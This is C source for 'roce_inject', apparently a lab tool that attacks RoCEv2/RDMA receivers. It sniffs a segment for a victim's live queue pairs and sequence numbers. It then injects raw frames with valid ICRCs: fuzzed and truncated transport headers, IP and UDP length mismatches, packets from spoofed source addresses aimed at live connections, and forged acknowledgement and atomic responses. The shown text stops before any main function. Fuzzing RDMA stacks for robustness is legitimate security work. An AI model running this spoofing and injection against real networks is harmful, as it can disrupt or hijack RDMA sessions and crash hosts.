// SPDX-License-Identifier: GPL-2.0
/*
 * roce_inject: a hostile RoCEv2 peer for the lab.  It writes whole
 * Ethernet frames through a packet socket, so it chooses every byte: IP
 * source addresses (spoofed), UDP and IP lengths, the IB transport
 * headers and the ICRC (IBA vol 1 annex A17.8), which it computes itself
 * so that the victim's receive path gets past its ICRC check and has to
 * deal with what follows.
 *
 *   roce_inject --selftest [--pcap FILE]
 *	check the ICRC code against real rdma_rxe packets (built in; with
 *	--pcap every RoCEv2 packet of FILE too); exit 0 iff all match
 *
 *   roce_inject -i IF -t VICTIM4 [-T VICTIM6] [-n COUNT] [-s SEED]
 *		 [-l SECS] [-q QPN[:PSN]]... [-S SPOOF]... [-w USEC]
 *		 [-c CLASS] [-o OPCODE]
 *	learn the victim's live RC QPs for SECS seconds (default 2) from
 *	the RoCEv2 frames on the segment (a packet socket sees both
 *	directions), or take them from -q; then send COUNT frames (default
 *	10000) to VICTIM4 (and VICTIM6 if given): every BTH opcode
 *	including reserved ones, each with its extension headers (RETH,
 *	AETH, AtomicETH, AtomicAckETH, DETH, ImmDt, IETH) filled with
 *	random values, payload and pad lengths that disagree with the
 *	headers, every truncation of each opcode's packet, bad ICRCs,
 *	IP/UDP length mismatches, and packets from spoofed source
 *	addresses (-S, default: the attacker's own, a third host and the
 *	victim's) aimed at the live QPs at PSNs around the ones seen on the
 *	wire, which keeps being read while sending.  -w pauses USEC every
 *	64 frames.  Injected frames come from a locally administered MAC
 *	address of no host, which is how the sniffer skips them.  -c sends
 *	only one class (shaped, any-opcode, truncated, spoofed-live,
 *	bad-icrc, ip/udp-length), -o only one opcode where the class picks
 *	one: to find which packet does what.
 *
 *   roce_inject -i IF -t VICTIM4 -F QPN:PSN:OPCODE:PAYLOAD[:SYNDROME]...
 *	forge: send exactly one well-formed RC frame per -F to VICTIM4,
 *	from this host's own address, and nothing else: BTH with opcode
 *	OPCODE (an RC response: 13 - 18), destination QP QPN and PSN
 *	PSN, the AETH (syndrome SYNDROME, default 0x1f: an ACK without
 *	credits) and AtomicAckETH the opcode carries, PAYLOAD bytes of
 *	0xbd, a valid ICRC.  Aimed at a requester QP with a request
 *	outstanding at PSN, it is a response that does or does not fit
 *	that request (scenarios/hostile-peer.sh, tools/lab/bad_response.c).
 *	The victim's MAC comes from the neighbour table.
 *
 * A seeded xorshift generator makes every choice; the seed is printed
 * (and taken from -s) so a run can be repeated: with -q and -l 0 it is
 * repeated exactly, while learning it depends on the live traffic.
 * Prints what it learned and a count per packet class; exit status 0 iff
 * every frame was sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "labwire.h"

#define ROCE_PORT	4791
#define BTH_LEN		12
#define ICRC_LEN	4
#define MAX_FRAME	9000
#define MAX_TARGETS	64
#define MAX_SPOOF	8

/* --- PRNG (labwire.c) ---------------------------------------------------- */

static bool chance(unsigned int percent)
{
	return rnd(100) < percent;
}

/* --- CRC32 (IEEE 802.3, reflected), as the ICRC uses it ------------------ */

static uint32_t crc_table[256];

/*
 * The ICRC of an IP datagram @ip of @len bytes (IP header, UDP header,
 * IB packet, ICRC field): IBA A17.8.2.  Eight bytes of 1s stand for the
 * LRH; the IP fields a router may change (IPv4 TOS, TTL, checksum; IPv6
 * traffic class, flow label, hop limit), the UDP checksum and BTH byte 4
 * are taken as all 1s.  @len must cover the IP and UDP headers, the BTH
 * and the ICRC field.
 */
static uint32_t icrc_compute(const uint8_t *ip, size_t len)
{
	uint8_t hdr[8 + 40 + 8 + BTH_LEN];
	size_t iplen, hl;
	uint32_t c;

	iplen = (ip[0] >> 4) == 4 ? (size_t)(ip[0] & 0xf) * 4 : 40;
	if (iplen > 40)		/* options: not produced here */
		iplen = 40;
	hl = 8 + iplen + 8 + BTH_LEN;
	memset(hdr, 0xff, 8);
	memcpy(hdr + 8, ip, iplen + 8 + BTH_LEN);
	if ((ip[0] >> 4) == 4) {
		hdr[8 + 1] = 0xff;			/* TOS */
		hdr[8 + 8] = 0xff;			/* TTL */
		hdr[8 + 10] = hdr[8 + 11] = 0xff;	/* checksum */
	} else {
		hdr[8 + 0] |= 0x0f;			/* traffic class, */
		hdr[8 + 1] = hdr[8 + 2] = hdr[8 + 3] = 0xff; /* flow label */
		hdr[8 + 7] = 0xff;			/* hop limit */
	}
	hdr[8 + iplen + 6] = hdr[8 + iplen + 7] = 0xff;	/* UDP checksum */
	hdr[8 + iplen + 8 + 4] = 0xff;			/* BTH byte 4 */
	c = crc_table_update(crc_table, ~0u, hdr, hl);
	c = crc_table_update(crc_table, c, ip + iplen + 8 + BTH_LEN,
			     len - (iplen + 8 + BTH_LEN) - ICRC_LEN);
	return ~c;
}

static void put_le32(uint8_t *p, uint32_t v)
{
	p[0] = v;
	p[1] = v >> 8;
	p[2] = v >> 16;
	p[3] = v >> 24;
}

static uint32_t get_le32(const uint8_t *p)
{
	return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24;
}

/* --- self-test ------------------------------------------------------------ */

/*
 * Real rdma_rxe packets (Debian 6.1) from the lab's reference capture,
 * IP header to ICRC, whose ICRC fields rxe wrote: an RC SEND_FIRST with
 * 1024 bytes of payload, an ACKNOWLEDGE and a FETCH_ADD.
 */
static const struct vec {
	const char *name;
	const char *hex;
} vectors[] = {
	{ "RC SEND_FIRST",
	  "4500042c2fcd4000401182f0c0000202c0000201c12112b7041800000000ffff"
	  "0000001100f2c6dc007b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b7b"
	  "7b7b7b7b7b7b7b7ba0e450b6" },
	{ "RC ACKNOWLEDGE",
	  "45000030cd8c40004011e92cc0000201c0000202c12112b7001c00001100ffff"
	  "0000001100f2c6de1f0000012b6fb7ae" },
	{ "RC FETCH_ADD",
	  "45000048352440004011817dc0000202c0000201c1b912b7003400001400ffff"
	  "0000001580c0dccf000055ee753a600000000619000000000000000100000000"
	  "00000000b3b333bf" },
};

static size_t unhex(const char *s, uint8_t *out, size_t max)
{
	size_t n = 0;
	unsigned int b;

	while (s[0] && s[1] && n < max) {
		if (sscanf(s, "%2x", &b) != 1)
			break;
		out[n++] = b;
		s += 2;
	}
	return n;
}

/* check one IP datagram: returns 1 if its ICRC matches ours */
static int selftest_one(const char *what, const uint8_t *ip, size_t len)
{
	uint32_t want, got;

	if (len < 20 + 8 + BTH_LEN + ICRC_LEN)
		return 0;
	want = get_le32(ip + len - ICRC_LEN);
	got = icrc_compute(ip, len);
	if (want != got) {
		printf("FAIL: %s: ICRC on the wire %08x, computed %08x\n",
		       what, want, got);
		return 0;
	}
	return 1;
}

/* every RoCEv2 packet of a pcap file (Ethernet, IPv4 or IPv6) */
static int selftest_pcap(const char *file, int *checked)
{
	uint8_t gh[24], rh[16], *pkt;
	uint32_t caplen;
	int bad = 0, swap;
	FILE *f;

	f = fopen(file, "rb");
	if (!f) {
		perror(file);
		return 1;
	}
	if (fread(gh, 1, 24, f) != 24) {
		fclose(f);
		return 1;
	}
	swap = get_le32(gh) != 0xa1b2c3d4;
	pkt = malloc(65536);
	while (pkt && fread(rh, 1, 16, f) == 16) {
		const uint8_t *ip, *udp;
		size_t iplen, left;
		char what[64];

		caplen = swap ? get_be32(rh + 8) : get_le32(rh + 8);
		if (caplen > 65536 || fread(pkt, 1, caplen, f) != caplen)
			break;
		if (caplen < 14 + 40)
			continue;
		ip = pkt + 14;
		left = caplen - 14;
		if (pkt[12] == 0x08 && pkt[13] == 0x00 && ip[9] == 17) {
			iplen = (ip[0] & 0xf) * 4;
			left = ip[2] << 8 | ip[3];
		} else if (pkt[12] == 0x86 && pkt[13] == 0xdd && ip[6] == 17) {
			iplen = 40;
			left = 40 + (ip[4] << 8 | ip[5]);
		} else {
			continue;
		}
		udp = ip + iplen;
		if ((udp[2] << 8 | udp[3]) != ROCE_PORT || left > caplen - 14)
			continue;
		snprintf(what, sizeof(what), "%s packet %d (opcode %u)",
			 file, *checked + 1, udp[8]);
		if (!selftest_one(what, ip, left))
			bad++;
		(*checked)++;
	}
	free(pkt);
	fclose(f);
	return bad;
}

static int selftest(const char *pcap)
{
	uint8_t buf[MAX_FRAME];
	int bad = 0, checked = 0;
	size_t i, n;

	for (i = 0; i < sizeof(vectors) / sizeof(vectors[0]); i++) {
		n = unhex(vectors[i].hex, buf, sizeof(buf));
		if (!selftest_one(vectors[i].name, buf, n))
			bad++;
		checked++;
	}
	/* and a packet that is not one: one bit flipped must not match */
	n = unhex(vectors[0].hex, buf, sizeof(buf));
	buf[n - ICRC_LEN - 1] ^= 1;
	if (get_le32(buf + n - ICRC_LEN) == icrc_compute(buf, n)) {
		printf("FAIL: a flipped payload bit leaves the ICRC unchanged\n");
		bad++;
	}
	if (pcap)
		bad += selftest_pcap(pcap, &checked);
	printf("selftest: %d packets checked, %d bad ICRC\n", checked, bad);
	return bad || !checked;
}

/* --- the IB transport headers (IBA vol 1 9.2 - 9.5) ----------------------- */

enum {
	X_RETH = 1 << 0,	/* 16: VA, R_Key, DMA length */
	X_AETH = 1 << 1,	/* 4: syndrome, MSN */
	X_ATOMIC = 1 << 2,	/* 28: VA, R_Key, swap/add, compare */
	X_ATOMICACK = 1 << 3,	/* 8: original data */
	X_DETH = 1 << 4,	/* 8: Q_Key, source QP */
	X_IMM = 1 << 5,		/* 4: immediate data */
	X_IETH = 1 << 6,	/* 4: R_Key to invalidate */
	X_PAYLOAD = 1 << 7,	/* carries payload */
	X_RDETH = 1 << 8,	/* 4: RD: EE context */
	X_XRCETH = 1 << 9,	/* 4: XRC SRQ */
};

/* extension headers by the low five opcode bits (RC, UC, RD, XRC share) */
static const unsigned int op_ext[32] = {
	[0] = X_PAYLOAD, [1] = X_PAYLOAD, [2] = X_PAYLOAD,
	[3] = X_PAYLOAD | X_IMM, [4] = X_PAYLOAD,
	[5] = X_PAYLOAD | X_IMM,
	[6] = X_PAYLOAD | X_RETH, [7] = X_PAYLOAD, [8] = X_PAYLOAD,
	[9] = X_PAYLOAD | X_IMM, [10] = X_PAYLOAD | X_RETH,
	[11] = X_PAYLOAD | X_RETH | X_IMM,
	[12] = X_RETH,
	[13] = X_PAYLOAD | X_AETH, [14] = X_PAYLOAD,
	[15] = X_PAYLOAD | X_AETH, [16] = X_PAYLOAD | X_AETH,
	[17] = X_AETH, [18] = X_AETH | X_ATOMICACK,
	[19] = X_ATOMIC, [20] = X_ATOMIC,
	[22] = X_PAYLOAD | X_IETH, [23] = X_PAYLOAD | X_IETH,
};

/* the extension headers opcode @op would carry */
static unsigned int opcode_ext(uint8_t op)
{
	unsigned int e = op_ext[op & 0x1f];

	switch (op >> 5) {
	case 0:		/* RC */
	case 1:		/* UC */
		return e;
	case 2:		/* RD */
		return e | X_RDETH | X_DETH;
	case 3:		/* UD: SEND_ONLY, SEND_ONLY_IMM */
		return e | X_DETH;
	case 5:		/* XRC */
		return e | X_XRCETH;
	}
	return rnd(2) ? e : 0;	/* CNP and the reserved ranges */
}

static size_t ext_fill(uint8_t *p, unsigned int ext, uint32_t qpn_hint)
{
	uint8_t *s = p;

	if (ext & X_RDETH) {
		put_be32(p, rnd(4) ? rnd(16) : (uint32_t)rnd64());
		p += 4;
	}
	if (ext & X_DETH) {
		put_be32(p, rnd(2) ? 0x80010000u : (uint32_t)rnd64()); /* GSI */
		put_be32(p + 4, rnd(2) ? 1 : (uint32_t)rnd64());
		p += 8;
	}
	if (ext & X_XRCETH) {
		put_be32(p, rnd(2) ? qpn_hint : (uint32_t)rnd64());
		p += 4;
	}
	if (ext & X_RETH) {
		uint64_t va = rnd(3) ? rnd64() : rnd(3) ? 0 : ~0ull - rnd(64);
		uint32_t len;

		switch (rnd(6)) {
		case 0: len = 0; break;
		case 1: len = 0x80000000u; break;
		case 2: len = 0xffffffffu; break;
		case 3: len = rnd(65536); break;
		default: len = rnd(8192); break;
		}
		put_be32(p, va >> 32);
		put_be32(p + 4, va);
		/* rkeys: a low index and random key, or anything */
		put_be32(p + 8, rnd(2) ? (rnd(16) << 8 | rnd(256)) : (uint32_t)rnd64());
		put_be32(p + 12, len);
		p += 16;
	}
	if (ext & X_AETH) {
		/* syndrome: ACK with any credit, RNR NAK, every NAK code */
		put_be32(p, (uint32_t)rnd(256) << 24 | rnd(1 << 24));
		p += 4;
	}
	if (ext & X_ATOMICACK) {
		rnd_bytes(p, 8);
		p += 8;
	}
	if (ext & X_ATOMIC) {
		uint64_t va = rnd(2) ? rnd64() : (rnd64() & ~7ull) + rnd(8);

		put_be32(p, va >> 32);
		put_be32(p + 4, va);
		put_be32(p + 8, rnd(2) ? (rnd(16) << 8 | rnd(256)) : (uint32_t)rnd64());
		rnd_bytes(p + 12, 16);
		p += 28;
	}
	if (ext & X_IMM) {
		rnd_bytes(p, 4);
		p += 4;
	}
	if (ext & X_IETH) {
		put_be32(p, rnd(2) ? (rnd(16) << 8 | rnd(256)) : (uint32_t)rnd64());
		p += 4;
	}
	return p - s;
}

/* --- targets ---------------------------------------------------------------- */

/*
 * A live QP of the victim: its QPN (the destination QP of frames sent to
 * the victim) and the last PSNs seen toward it (what its responder
 * expects next) and from the victim's address (what its requester has in
 * flight, which forged ACKs and read responses aim at).
 */
struct target {
	uint32_t qpn;
	uint32_t psn_in;
	uint32_t psn_out;
	unsigned long seen;
};

static struct target targets[MAX_TARGETS];
static int ntargets;
static uint32_t last_psn_out;

struct addr {
	int family;
	uint8_t a[16];
};

static struct addr victim4, victim6, self4, self6;
/* the most IB bytes (BTH to pad) an IPv6 frame holds on this link */
static size_t ib_max = 1500 - 40 - 8 - ICRC_LEN;
static struct addr spoof[MAX_SPOOF];
static int nspoof;
static uint8_t victim_mac[6];
static bool have_victim_mac;
/*
 * The source MAC of injected frames: locally administered, a host that
 * is not there, and how the sniffer tells our frames from the live ones.
 */
static const uint8_t inject_mac[6] = { 0x02, 0x00, 0x5e, 0x66, 0x66, 0x66 };
/* new live QPs are learned before the attack only */
static bool learning = true;

static struct target *target_find(uint32_t qpn)
{
	int i;

	for (i = 0; i < ntargets; i++)
		if (targets[i].qpn == qpn)
			return &targets[i];
	return NULL;
}

static struct target *target_get(uint32_t qpn)
{
	struct target *t = target_find(qpn);

	if (t)
		return t;
	if (ntargets == MAX_TARGETS)
		return NULL;
	targets[ntargets].qpn = qpn;
	return &targets[ntargets++];
}

/* one frame seen on the segment: learn from it */
static void sniff_frame(const uint8_t *f, size_t n)
{
	const uint8_t *ip, *udp, *bth;
	bool to_victim, from_victim, is_req;
	struct target *t;
	size_t iplen;

	if (n < 14 + 20 + 8 + BTH_LEN)
		return;
	ip = f + 14;
	if (f[12] == 0x08 && f[13] == 0x00 && ip[9] == 17) {
		iplen = (ip[0] & 0xf) * 4;
		to_victim = !memcmp(ip + 16, victim4.a, 4);
		from_victim = !memcmp(ip + 12, victim4.a, 4);
	} else if (f[12] == 0x86 && f[13] == 0xdd && ip[6] == 17 &&
		   victim6.family) {
		iplen = 40;
		to_victim = !memcmp(ip + 24, victim6.a, 16);
		from_victim = !memcmp(ip + 8, victim6.a, 16);
	} else {
		return;
	}
	if (n < 14 + iplen + 8 + BTH_LEN)
		return;
	udp = ip + iplen;
	if ((udp[2] << 8 | udp[3]) != ROCE_PORT)
		return;
	bth = udp + 8;
	/* our own frames (a locally administered source MAC) teach nothing */
	if (!memcmp(f + 6, inject_mac, 6))
		return;
	if (from_victim && !have_victim_mac) {
		memcpy(victim_mac, f + 6, 6);
		have_victim_mac = true;
	}
	/* RC opcodes only: the live connections */
	if (bth[0] >= 0x20)
		return;
	/*
	 * Requests carry their sender's PSNs; ACKs and read or atomic
	 * responses (opcodes 13 - 18) the PSNs of the requests they answer.
	 */
	is_req = bth[0] < 13 || bth[0] > 18;
	if (to_victim) {
		t = learning ? target_get(get_be32(bth + 4) & 0xffffff) :
			       target_find(get_be32(bth + 4) & 0xffffff);
		if (t) {
			if (is_req)
				t->psn_in = get_be32(bth + 8) & 0xffffff;
			t->seen++;
		}
	} else if (from_victim && is_req) {
		last_psn_out = get_be32(bth + 8) & 0xffffff;
		for (int i = 0; i < ntargets; i++)
			targets[i].psn_out = last_psn_out;
	}
}

static int sniff_fd = -1;

static void sniff_drain(void)
{
	uint8_t f[2048];
	ssize_t n;

	while ((n = recv(sniff_fd, f, sizeof(f), MSG_DONTWAIT | MSG_TRUNC)) > 0)
		sniff_frame(f, (size_t)n > sizeof(f) ? sizeof(f) : (size_t)n);
}

static void sniff_for(double secs)
{
	struct timespec a, b;
	struct pollfd pfd = { .fd = sniff_fd, .events = POLLIN };

	clock_gettime(CLOCK_MONOTONIC, &a);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &b);
		if ((b.tv_sec - a.tv_sec) + (b.tv_nsec - a.tv_nsec) / 1e9 >= secs)
			break;
		if (poll(&pfd, 1, 100) > 0)
			sniff_drain();
	}
}

/* --- frames ------------------------------------------------------------------- */

enum cls {
	C_SHAPED,	/* right headers for the opcode, random values */
	C_ANYOP,	/* any opcode byte, random header bytes */
	C_TRUNC,	/* an opcode's packet cut at every length */
	C_SPOOF,	/* spoofed source at a live QP near its PSN */
	C_BADICRC,	/* a shaped packet with a wrong ICRC */
	C_BADLEN,	/* IP or UDP length disagreeing with the frame */
	C_NCLS,
};

static const char *const cls_name[C_NCLS] = {
	[C_SHAPED] = "shaped", [C_ANYOP] = "any-opcode",
	[C_TRUNC] = "truncated", [C_SPOOF] = "spoofed-live",
	[C_BADICRC] = "bad-icrc", [C_BADLEN] = "ip/udp-length",
};

static unsigned long sent[C_NCLS];

static uint16_t csum_fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static uint32_t csum_add(uint32_t s, const uint8_t *p, size_t n)
{
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		s += p[i] << 8 | p[i + 1];
	if (n & 1)
		s += p[n - 1] << 8;
	return s;
}

/*
 * Build one frame in @f: Ethernet, IP (family of @src), UDP to 4791,
 * then @ib (@iblen bytes, BTH onwards, without ICRC), then the ICRC
 * (valid unless @bad_icrc).  Returns the frame length.
 */
/* forged frames (-F) carry no random TOS and always a UDP checksum */
static bool clean_frames;

static size_t frame_build(uint8_t *f, const struct addr *src,
			  const struct addr *dst, const uint8_t *ib,
			  size_t iblen, bool bad_icrc)
{
	size_t iplen = src->family == AF_INET ? 20 : 40;
	size_t dgram = iplen + 8 + iblen + ICRC_LEN;
	uint8_t *ip = f + 14, *udp = ip + iplen;
	uint16_t sport = 0xc000 | rnd(0x4000);
	uint32_t s;

	memcpy(f, victim_mac, 6);
	memcpy(f + 6, inject_mac, 6);
	if (src->family == AF_INET) {
		f[12] = 0x08;
		f[13] = 0x00;
		memset(ip, 0, 20);
		ip[0] = 0x45;
		ip[1] = clean_frames || rnd(4) ? 0 : rnd(256);
		put_be16(ip + 2, dgram);
		put_be16(ip + 4, rnd(65536));
		ip[6] = 0x40;	/* DF */
		ip[8] = 64;
		ip[9] = 17;
		memcpy(ip + 12, src->a, 4);
		memcpy(ip + 16, dst->a, 4);
		put_be16(ip + 10, csum_fold(csum_add(0, ip, 20)));
	} else {
		f[12] = 0x86;
		f[13] = 0xdd;
		memset(ip, 0, 40);
		ip[0] = 0x60;
		put_be16(ip + 4, dgram - 40);
		ip[6] = 17;
		ip[7] = 64;
		memcpy(ip + 8, src->a, 16);
		memcpy(ip + 24, dst->a, 16);
	}
	put_be16(udp, sport);
	put_be16(udp + 2, ROCE_PORT);
	put_be16(udp + 4, dgram - iplen);
	put_be16(udp + 6, 0);
	memcpy(udp + 8, ib, iblen);
	if (iblen >= BTH_LEN)
		put_le32(udp + 8 + iblen,
			 icrc_compute(ip, dgram) ^ (bad_icrc ? 1u << rnd(32) : 0));
	else
		put_le32(udp + 8 + iblen, (uint32_t)rnd64());
	/* UDP checksum: optional over IPv4, required over IPv6 */
	if (src->family == AF_INET6 || clean_frames || rnd(2)) {
		s = src->family == AF_INET ? csum_add(0, ip + 12, 8) :
					     csum_add(0, ip + 8, 32);
		s += 17 + (dgram - iplen);
		s = csum_add(s, udp, dgram - iplen);
		put_be16(udp + 6, csum_fold(s) ? csum_fold(s) : 0xffff);
	}
	return 14 + dgram;
}

/*
 * A PSN for opcode @op near where live QP @t stands: a request near the
 * PSNs its responder expects, an ACK or response near the ones its
 * requester has in flight.
 */
static uint32_t pick_psn(const struct target *t, uint8_t op)
{
	bool resp = (op & 0x1f) >= 13 && (op & 0x1f) <= 18;
	uint32_t base = resp ? t->psn_out : t->psn_in;

	switch (rnd(5)) {
	case 0: return (base + 1) & 0xffffff;		/* expected next */
	case 1: return base;				/* duplicate */
	case 2: return (base + rnd(64) - 32) & 0xffffff;	/* nearby */
	case 3: return (base + 0x800000 + rnd(3) - 1) & 0xffffff; /* half way */
	default: return (base + rnd(16)) & 0xffffff;
	}
}

static uint32_t pick_qpn(bool live)
{
	if (live && ntargets)
		return targets[rnd(ntargets)].qpn;
	switch (rnd(6)) {
	case 0: return rnd(2);		/* QP0, QP1 */
	case 1: return rnd64() & 0xffffff;
	case 2: return 0xffffff;
	default:
		if (ntargets)
			return (targets[rnd(ntargets)].qpn + rnd(9) - 4) & 0xffffff;
		return 2 + rnd(64);	/* the low range QPNs start in */
	}
}

/*
 * The IB packet of @op (BTH, extension headers, payload, pad), values
 * random, payload length from 0 to what the link carries (past any path
 * MTU); returns its length.
 */
static size_t ib_build(uint8_t *ib, uint8_t op, uint32_t qpn, uint32_t psn)
{
	unsigned int ext = opcode_ext(op);
	size_t n = BTH_LEN, pay = 0;
	unsigned int pad;

	ib[0] = op;
	pad = rnd(4);
	ib[1] = (rnd(4) ? 0 : rnd(4) << 6) | pad << 4 | (rnd(20) ? 0 : rnd(16));
	put_be16(ib + 2, rnd(10) ? 0xffff : rnd(65536));
	put_be32(ib + 4, (rnd(10) ? 0 : rnd(256) << 24) | qpn);
	put_be32(ib + 8, (uint32_t)rnd(2) << 31 | (rnd(10) ? 0 : rnd(128) << 24) | psn);
	n += ext_fill(ib + n, ext, qpn);
	if (ext & X_PAYLOAD || chance(10)) {
		switch (rnd(8)) {
		case 0: pay = 0; break;
		case 1: pay = 256 * (1 + rnd(16)); break;	/* an MTU */
		case 2: pay = ib_max; break;			/* the link's most */
		case 3: pay = 1 + rnd(3); break;
		default: pay = rnd(1100); break;
		}
		/* mostly the pad the BTH says, sometimes any */
		if (rnd(4))
			pay = (pay & ~3ul) + ((4 - pad) & 3);
		if (n + pay > ib_max)
			pay = ib_max - n;
		rnd_bytes(ib + n, pay);
		n += pay;
	}
	return n;
}

static int only_op = -1;

static uint8_t pick_op(void)
{
	static const uint8_t common[] = {
		0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09,
		0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f, 0x10, 0x11, 0x12, 0x13,
		0x14, 0x16, 0x17, 0x64, 0x65, 0x81,
	};

	if (only_op >= 0)
		return only_op;
	if (rnd(4))
		return common[rnd(sizeof(common))];
	return rnd(256);
}

static int tx_fd;
static int ifindex;

static int send_frame(const uint8_t *f, size_t n)
{
	struct sockaddr_ll sll = {
		.sll_family = AF_PACKET,
		.sll_ifindex = ifindex,
		.sll_halen = 6,
	};

	memcpy(sll.sll_addr, victim_mac, 6);
	for (int tries = 0; tries < 1000; tries++) {
		if (sendto(tx_fd, f, n, 0, (struct sockaddr *)&sll, sizeof(sll)) >= 0)
			return 0;
		if (errno != ENOBUFS && errno != EAGAIN)
			break;
		usleep(1000);
	}
	perror("sendto");
	return -1;
}

/* the truncation sweep: opcode by opcode, every cut from 0 to full */
static unsigned int trunc_op, trunc_cut;
static uint8_t trunc_pkt[MAX_FRAME];
static size_t trunc_len;

static size_t next_trunc(uint8_t *ib, bool *valid_icrc)
{
	static const uint8_t ops[] = {
		0x00, 0x03, 0x04, 0x06, 0x0a, 0x0b, 0x0c, 0x0d, 0x10, 0x11,
		0x12, 0x13, 0x14, 0x17, 0x64, 0x65, 0x2a, 0x81,
	};

	if (!trunc_len || trunc_cut > trunc_len + ICRC_LEN) {
		uint8_t op = ops[trunc_op++ % sizeof(ops)];
		unsigned int ext = opcode_ext(op);

		/* a short payload: the sweep is over the headers */
		trunc_len = BTH_LEN + ext_fill(trunc_pkt + BTH_LEN, ext,
					       pick_qpn(true));
		trunc_pkt[0] = op;
		trunc_pkt[1] = 0;
		put_be16(trunc_pkt + 2, 0xffff);
		put_be32(trunc_pkt + 4, pick_qpn(true));
		put_be32(trunc_pkt + 8, ntargets ? pick_psn(&targets[0], op) : rnd(1 << 24));
		if (ext & X_PAYLOAD) {
			rnd_bytes(trunc_pkt + trunc_len, 8);
			trunc_len += 8;
		}
		trunc_cut = 0;
	}
	/*
	 * Cuts shorter than a BTH plus ICRC cannot carry a valid ICRC; the
	 * longer ones are cut, then given a valid ICRC so that the header
	 * parser sees them (every other one without: its last four bytes
	 * are what the receiver takes for the ICRC).
	 */
	*valid_icrc = trunc_cut >= BTH_LEN && (trunc_cut & 1) == 0;
	memcpy(ib, trunc_pkt, trunc_cut);
	return trunc_cut++;
}

